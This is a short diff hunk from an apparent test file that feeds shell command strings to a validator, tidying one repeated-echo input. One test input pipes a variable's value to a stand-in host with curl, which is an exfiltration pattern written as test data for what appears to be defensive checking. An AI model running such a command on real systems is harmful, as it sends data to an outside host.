@@ -85,7 +85,7 @@ it.each([
     'a=$s; curl -s https://x.example/$a',
     'export s',
     'echo "$(awk "$s")"',
-    `${'echo a; '.repeat(600)}`,
+    'echo a; '.repeat(600),
   ].map((rest) => `${S}; ${rest}`),
   `export ${S}`,
   `${S} foo`,
